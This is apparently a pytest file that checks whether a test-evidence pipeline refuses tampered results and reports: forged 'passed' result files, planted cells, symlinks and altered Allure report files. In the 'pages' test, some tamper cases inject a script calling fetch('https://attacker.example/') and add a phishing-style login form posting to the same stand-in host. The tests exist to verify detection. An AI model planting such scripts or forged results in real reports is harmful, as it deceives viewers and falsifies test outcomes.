"""Attacks by one extra (or changed) file in a directory a job binds by digests (issue 23, item 2).

A consumer reads every file of a directory, bound or not: Allure Report counts every ``*-result.json`` of an
allure-results directory, a Pages site serves every file of a report. So a job that re-hashes the files its
digests name must also refuse a directory that holds anything else: verify-attestation, verify, pages and
export each end such an attack in ``io.extra_file`` (naming the file), never in "holds" or a publication."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from evidence_support import (
    actions_env,
    bound_to,
    cell,
    make_selection,
    uuid_factory,
    write_contract,
    write_worker_record,
)
from helpers import FakeClock, PhaseRun, run_mode
from test_trials import contract_of, trials_document, write_workers
from test_upload import needs_allure, phase


def extra_result(results: Path, into: Path | None = None) -> Path:
    """A passed twin of a failed result of ``results``: same historyId, a later start, written into ``into``
    (default: beside it). Allure Report shows the latest result of a historyId: the case would read passed."""
    failed = next(p for p in sorted(results.glob("*-result.json")) if json.loads(p.read_text())["status"] == "failed")
    forged = json.loads(failed.read_text())
    forged.update({"uuid": str(uuid.UUID(int=99)), "status": "passed", "start": forged["start"] + 1000,
                   "stop": forged["stop"] + 1000, "statusDetails": {}})
    path = (into or results) / f"{forged['uuid']}-result.json"
    path.write_text(json.dumps(forged))
    return path


def test_an_added_result_file_does_not_let_the_attestation_hold(tmp_path: Path, exported: dict[str, str]) -> None:
    assert phase("upload", tmp_path, exported).exit_code == 0
    verify = phase("verify", tmp_path, exported)
    assert verify.exit_code == 1, verify.summary
    statement = verify.outputs["attestation-path"]
    holds = run_mode("verify-attestation", tmp_path, {"attestation": statement}, actions=False)
    assert holds.exit_code == 0, holds.summary

    published = tmp_path / "state" / "published" / "allure-results"
    published.chmod(0o700)
    forged = extra_result(published)
    check = run_mode("verify-attestation", tmp_path, {"attestation": statement}, actions=False)
    assert (check.exit_code, check.outputs["error-code"]) == (3, "io.extra_file"), check.summary
    assert check.failure()["field"] == forged.name
    # An empty directory is an entry the statement does not list either; a link is refused by the walk.
    forged.unlink()
    (published / "nested").mkdir()
    check = run_mode("verify-attestation", tmp_path, {"attestation": statement}, actions=False)
    assert (check.outputs["error-code"], check.failure()["field"]) == ("io.extra_file", "nested/")
    (published / "nested").rmdir()
    (published / "later-result.json").symlink_to(next(published.glob("*-result.json")).name)
    check = run_mode("verify-attestation", tmp_path, {"attestation": statement}, actions=False)
    assert check.outputs["error-code"] == "io.unsafe_path", check.summary


def test_an_attested_file_that_is_gone_does_not_let_the_attestation_hold(tmp_path: Path,
                                                                        exported: dict[str, str]) -> None:
    assert phase("upload", tmp_path, exported).exit_code == 0
    statement = phase("verify", tmp_path, exported).outputs["attestation-path"]
    published = tmp_path / "state" / "published" / "allure-results"
    published.chmod(0o700)
    gone = next(published.glob("*-result.json"))
    gone.unlink()
    check = run_mode("verify-attestation", tmp_path, {"attestation": statement}, actions=False)
    assert (check.exit_code, check.outputs["error-code"]) == (3, "attestation.mismatch"), check.summary
    assert check.failure()["field"] == gone.name


def test_verify_refuses_a_publication_with_an_extra_file_even_in_a_subdirectory(tmp_path: Path,
                                                                              exported: dict[str, str]) -> None:
    assert phase("upload", tmp_path, exported).exit_code == 0
    published = tmp_path / "state" / "published" / "allure-results"
    published.chmod(0o700)
    (published / "later").mkdir()
    forged = extra_result(published, published / "later")
    run = phase("verify", tmp_path, exported)
    assert (run.exit_code, run.outputs["error-code"]) == (3, "io.extra_file"), run.summary
    assert run.failure()["field"] == f"later/{forged.name}"
    assert not (tmp_path / "state" / "publication.intoto.json").exists()  # nothing attested


# --- pages: the report artifact is bound file by file ---------------------------------------------------------


@pytest.fixture
def report_publication(tmp_path: Path) -> tuple[Path, dict[str, str], dict[str, str]]:
    from test_pages import publication

    return publication(tmp_path)


@needs_allure
@pytest.mark.parametrize("tamper", ["script", "case-status", "added-page", "history", "removed"])
def test_pages_publishes_no_report_file_it_cannot_bind(tmp_path: Path, tamper: str,
                                                       report_publication: tuple[Path, dict[str, str],
                                                                                 dict[str, str]]) -> None:
    """A worker that replaced the report artifact (same name, same receipt, same allure-results and the same
    summary.json counts) changes what the site serves: a script, a case's status in the report's data, an
    added page, the trend history. Each is refused before the Pages checkout is touched."""
    from test_pages import pages

    published, options, env = report_publication
    site_dir = tmp_path / "site"
    site_dir.mkdir()
    report = published / "allure-report"
    for folder in (published, *[p for p in published.rglob("*") if p.is_dir()]):
        folder.chmod(0o700)
    if tamper == "script":
        # A script of the report: a bundle beside index.html, or the page itself when Allure inlines it.
        target = next(iter(sorted(report.rglob("*.js"))), report / "index.html")
        target.write_text(target.read_text() + "\n<script>fetch('https://attacker.example/')</script>\n")
        code, field = "pages.publication", str(target.relative_to(published))
    elif tamper == "case-status":
        target = next(p for p in sorted(report.rglob("*")) if p.is_file() and b'"failed"' in p.read_bytes()
                      and p.name != "summary.json")
        target.write_bytes(target.read_bytes().replace(b'"failed"', b'"passed"'))
        code, field = "pages.publication", str(target.relative_to(published))
    elif tamper == "added-page":
        (report / "login.html").write_text("<form action='https://attacker.example/'>")
        code, field = "io.extra_file", "allure-report/login.html"
    elif tamper == "history":
        (published / "history.jsonl").write_text("{}\n")
        code, field = "pages.publication", "history.jsonl"
    else:
        (report / "index.html").unlink()
        code, field = "pages.publication", "allure-report/index.html"
    run = pages(tmp_path, published, options, env, site_dir)
    assert (run.exit_code, run.outputs["error-code"]) == (3, code), run.summary
    assert run.failure()["field"] == field
    assert list(site_dir.iterdir()) == []


@needs_allure
def test_pages_refuses_a_manifest_that_is_not_the_one_upload_built(
        tmp_path: Path, report_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
    """The attacker rewrites the manifest to match its changed report: its digest is not the travelled one."""
    from test_pages import pages

    published, options, env = report_publication
    site_dir = tmp_path / "site"
    site_dir.mkdir()
    published.chmod(0o700)
    manifest = published / "testops-evidence-tree.json"
    document = json.loads(manifest.read_text())
    document["files"]["allure-report/login.html"] = "0" * 64
    manifest.write_text(json.dumps(document))
    run = pages(tmp_path, published, options, env, site_dir)
    assert (run.exit_code, run.outputs["error-code"]) == (3, "pages.publication"), run.summary
    assert run.failure()["field"] == "testops-evidence-tree.json"
    # Inside Actions the digest is required: without it nothing binds the report.
    unbound = pages(tmp_path, published, {**options, "report-tree-sha256": ""}, env, site_dir)
    assert (unbound.exit_code, unbound.outputs["error-code"]) == (2, "input.report-tree-sha256"), unbound.summary
    assert list(site_dir.iterdir()) == []


# --- export: a worker artifact holds exactly the files its record lists -----------------------------------------


def worker_artifacts(tmp_path: Path, workers: dict[str, list[dict[str, Any]]],
                     contract: Any) -> tuple[dict[str, str], dict[str, str], Path]:
    """Per-worker artifacts as the campaign template's workers upload them: cells, and the worker record
    listing every file with its digest. Returns the export options, the runner variables and the cells dir."""
    env = actions_env()
    selection, digest = make_selection(tmp_path, contract, env)
    cell_dir = tmp_path / "cell-results"
    for job, directory in write_workers(cell_dir, workers, digest).items():
        write_worker_record(directory, job, digest)
    options = {"contract": str(write_contract(contract, tmp_path / "contract.json")),
               "selection-path": str(selection), "selection-sha256": digest, "cell-results": str(cell_dir),
               "results-dir": str(tmp_path / "allure-results"), "artifact-prefix": "testops-evidence",
               "state-dir": str(tmp_path / "state")}
    return options, env, cell_dir


def run_export(tmp_path: Path, options: dict[str, str], env: dict[str, str]) -> PhaseRun:
    clock = FakeClock(1_796_119_500.0)
    return run_mode("export", tmp_path, options, env, new_uuid=uuid_factory(), clock=clock.time,
                    monotonic=clock.monotonic, sleep=clock.sleep)


def test_export_refuses_a_cell_planted_beside_a_workers_own(tmp_path: Path) -> None:
    """Issue 23: another artifact extracted into a verified worker's directory plants
    `<case>/later.json`, a passed cell of a case that failed; under `run-attempts: any` it would win."""
    document = trials_document()
    document["trust"]["run-attempts"] = "any"
    contract = contract_of(document)
    honest = {"native-flaky": [cell(contract, "flaky", failed=("answer",), disposition="behavior_failure")],
              "native-steady": [cell(contract, "steady")], "external-human": [cell(contract, "human")]}
    options, env, cell_dir = worker_artifacts(tmp_path / "honest", honest, contract)
    exported = run_export(tmp_path / "honest", options, env)
    assert exported.exit_code == 1, exported.summary  # the record's files match: flaky exported as failed

    options, env, cell_dir = worker_artifacts(tmp_path / "attacked", honest, contract)
    planted = cell_dir / "testops-evidence-cells-1-native-flaky" / "flaky" / "later.json"
    forged = cell(contract, "flaky", attempt="attempt-flaky-later")
    forged["finished-at"] = "2026-12-01T11:00:00Z"
    planted.write_text(json.dumps(bound_to(forged, options["selection-sha256"])))
    refused = run_export(tmp_path / "attacked", options, env)
    assert (refused.exit_code, refused.outputs["error-code"]) == (3, "io.extra_file"), refused.summary
    assert refused.failure()["field"] == "flaky/later.json"
    assert not (tmp_path / "attacked" / "allure-results").exists()

    # A cell of the worker changed after its record was written is refused too.
    planted.unlink()
    own = cell_dir / "testops-evidence-cells-1-native-flaky" / "flaky" / "trial-1.json"
    own.write_text(own.read_text().replace('"behavior_failure"', '"passed"'))
    changed = run_export(tmp_path / "attacked", options, env)
    assert (changed.exit_code, changed.outputs["error-code"]) == (3, "export.worker_artifact"), changed.summary


@needs_allure
def test_pages_serves_the_bound_publication_with_verifys_statement_beside_it(
        tmp_path: Path, report_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
    """The campaign template copies verify's statement into the publication after upload wrote the manifest:
    pages neither reads nor serves it, so it may be there; anything else beside the report may not."""
    from test_pages import pages

    published, options, env = report_publication
    site_dir = tmp_path / "site"
    site_dir.mkdir()
    published.chmod(0o700)
    for name in ("publication.intoto.json", "publication.predicate.json"):
        (published / name).write_text("{}")
    run = pages(tmp_path, published, options, env, site_dir)
    assert run.exit_code == 0, run.summary + run.log
    assert "bound by the publish job's report-tree-sha256" in run.summary
    (published / "index.html").write_text("<script>")
    extra = pages(tmp_path, published, options, env, site_dir)
    assert (extra.outputs["error-code"], extra.failure()["field"]) == ("io.extra_file", "index.html")
